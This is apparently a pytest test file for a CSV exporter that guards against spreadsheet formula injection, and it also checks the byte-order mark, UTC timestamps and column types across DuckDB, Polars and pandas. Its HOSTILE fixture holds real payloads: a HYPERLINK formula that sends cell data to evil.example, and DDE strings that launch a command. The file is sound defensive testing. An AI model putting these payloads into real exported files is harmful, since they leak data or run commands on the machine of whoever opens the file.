"""``OrderFrames.to_csv`` writes files a spreadsheet opens safely (OWASP "CSV injection": a
text cell starting with = + - @ tab CR LF is shown as text, never run as a formula), with a
byte-order mark and times Excel reads, which DuckDB, Polars and pandas still read with the
right types; ``excel=False`` writes plain CSV."""

from __future__ import annotations

import csv
import io
import random
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import polars as pl
import pytest
from _synthetic import closed_order, mixed_orders

from toolkit.errors import InvalidRequest
from toolkit.frames._frames import OrderFrames, build_frames

BOM = b"\xef\xbb\xbf"

#: service text that a spreadsheet would evaluate, by field
HOSTILE = {
    "errorMessage": '=HYPERLINK("http://evil.example/?d="&A1,"Saldo insuficiente: clique aqui")',
    "statusReason": "+cmd|' /C calc'!A0",
    "info": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rule": "-2+3",
    "channel": "\t=1+1",
    "account": "\r=1+1",
    "orderPoolId": "\n=1+1",
}


def _order(**changes: Any) -> dict[str, Any]:
    order: dict[str, Any] = closed_order(random.Random(1), 1, trades=2, quotes=2)
    order.update(changes)
    return order


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_text_a_spreadsheet_would_run_gets_a_leading_quote(tmp_path: Path) -> None:
    frames = build_frames([_order(**HOSTILE, symbol="BTC/BRL", **{"=evil": "x"})])
    [row] = _rows(frames.to_csv(tmp_path)["orders"])
    for field, text in HOSTILE.items():
        assert row[field] == "'" + text, field
    assert row["symbol"] == "BTC/BRL"  # other text as it is
    # a column name is service text too (unknown fields are kept as columns)
    assert "'=evil" in row and "=evil" not in row


def test_numbers_are_never_prefixed(tmp_path: Path) -> None:
    # a negative number stays a number; text that is a plain number runs nothing either
    frames = build_frames([_order(price="-5.25", statusReason="-1.5", rule="+2e3")])
    [row] = _rows(frames.to_csv(tmp_path)["orders"])
    assert (row["price"], row["statusReason"], row["rule"]) == ("-5.25", "-1.5", "+2e3")
    exact = build_frames([_order(price="-5.25")], exact=True)
    [row] = _rows(exact.to_csv(tmp_path / "exact")["orders"])
    assert Decimal(row["price"]) == Decimal("-5.25")


def test_a_byte_order_mark_keeps_the_accents_for_excel(tmp_path: Path) -> None:
    frames = build_frames([_order(errorMessage="Saldo insuficiente: não há BRL ☃")])
    paths = frames.to_csv(tmp_path)
    for path in paths.values():
        assert path.read_bytes().startswith(BOM)
    [row] = _rows(paths["orders"])
    assert row["errorMessage"] == "Saldo insuficiente: não há BRL ☃"


def test_times_are_written_the_way_excel_reads_them_and_say_utc(tmp_path: Path) -> None:
    frames = build_frames([_order(createdAt=1764000000123)])
    [row] = _rows(frames.to_csv(tmp_path)["orders"])
    assert row["createdAt (UTC)"] == "2025-11-24 16:00:00.123"
    assert "createdAt" not in row


def _is_numeric(dtype: Any) -> bool:
    return pd.api.types.is_numeric_dtype(dtype) or "decimal" in str(dtype)


@pytest.mark.parametrize("exact", [False, True])
def test_duckdb_polars_and_pandas_read_every_column_with_its_type(
    tmp_path: Path, exact: bool
) -> None:
    frames = build_frames(mixed_orders(40, seed=2), exact=exact)
    paths = frames.to_csv(tmp_path)
    con = duckdb.connect()
    for name, df in frames:
        source = f"read_csv('{paths[name]}')"
        duck = {r[0]: r[1] for r in con.execute(f"DESCRIBE SELECT * FROM {source}").fetchall()}
        polars = pl.read_csv(paths[name], try_parse_dates=True, infer_schema_length=None)
        pandas = pd.read_csv(paths[name])
        assert len(polars) == len(pandas) == len(df)
        for column in df.columns:
            if df[column].isna().all():
                continue  # no reader can type an empty column
            dtype = df[column].dtype
            if isinstance(dtype, pd.DatetimeTZDtype):
                label = f"{column} (UTC)"
                assert duck[label] == "TIMESTAMP", label
                assert polars.schema[label] == pl.Datetime("us"), label
                back = pd.to_datetime(pandas[label]).dt.tz_localize("UTC")
                assert back.tolist() == df[column].tolist(), label
            elif _is_numeric(dtype):
                assert duck[column] in ("DOUBLE", "BIGINT"), column
                assert polars.schema[column].is_numeric(), column
                assert pd.api.types.is_numeric_dtype(pandas[column]), column
                sent = df[column].astype(float).tolist()
                assert pandas[column].tolist() == pytest.approx(sent, nan_ok=True), column
            else:
                assert duck[column] == "VARCHAR", column
                assert polars.schema[column] == pl.String, column
                # pandas reads an empty text ("") as NaN, as it does in any CSV
                sent = df[column].fillna("").tolist()
                assert ["" if pd.isna(v) else v for v in pandas[column]] == sent, column


def test_excel_false_writes_plain_csv(tmp_path: Path) -> None:
    frames = build_frames([_order(createdAt=1764000000123, **HOSTILE)])
    path = frames.to_csv(tmp_path, excel=False)["orders"]
    assert not path.read_bytes().startswith(BOM)
    [row] = _rows(path)
    assert row["createdAt"] == "2025-11-24T16:00:00.123Z"
    for field, text in HOSTILE.items():
        assert row[field] == text, field


@pytest.mark.parametrize("excel", ["no", 0, None])
def test_excel_must_be_a_bool(tmp_path: Path, excel: Any) -> None:
    with pytest.raises(InvalidRequest, match="excel must be True or False"):
        OrderFrames.empty().to_csv(tmp_path / "out", excel=excel)
    assert not (tmp_path / "out").exists()


def test_empty_frames_keep_the_header(tmp_path: Path) -> None:
    path = OrderFrames.empty().to_csv(tmp_path)["orders"]
    header = path.read_bytes().decode("utf-8-sig").splitlines()[0]
    assert header.startswith('"id","exchange"') and '"createdAt (UTC)"' in header
